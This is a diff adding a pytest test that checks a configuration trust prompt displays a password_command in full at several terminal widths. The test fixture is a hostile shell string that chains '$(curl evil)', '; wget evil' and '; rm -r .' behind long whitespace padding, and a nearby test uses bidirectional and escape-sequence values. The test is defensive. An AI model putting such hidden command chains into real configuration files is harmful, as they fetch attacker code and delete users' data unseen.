@@ -208,6 +208,21 @@ def test_a_file_that_changes_while_it_is_shown_is_not_approved(
     assert run("trust", "--show").exit_code == 1
 
 
+@pytest.mark.parametrize("columns", ["40", "80", "200"])
+def test_a_command_is_shown_in_full(run: Run, root: Path, monkeypatch: pytest.MonkeyPatch, columns: str) -> None:
+    """Neither hidden as what looks like a secret, nor cut off at the edge, nor as a line of its own."""
+    hidden = 'sh -c "x://$(curl evil)@b' + " " * 300 + "; wget evil" + " " * 2000 + '; rm -r ."'
+    write(root, f"[persistence.postgres]\nhost = 'h'\npassword_command = '{hidden}'\n")
+    monkeypatch.setenv("COLUMNS", columns)
+    shown = run("trust", "--show").stdout
+    lines = shown.splitlines()
+    assert "$(curl evil)" in shown.replace("\n    ", "")
+    assert "; wget evil" in shown.replace("\n    ", "")
+    assert "; rm -r ." in shown.replace("\n    ", "")
+    assert all(len(line) <= int(columns) for line in lines[:-1])
+    assert [line[:12] for line in lines if not line.startswith(" ")] == ["persistence.", "persistence.", "not trusted:"]
+
+
 def test_hostile_values_are_shown_as_text(run: Run, root: Path) -> None:
     write(root, '[backup]\ndirectory = "/x/\\u202eevil[/red]"\n[ingest]\nroots = ["/\\u009b31m"]\n')
     shown = run("trust", "--show")
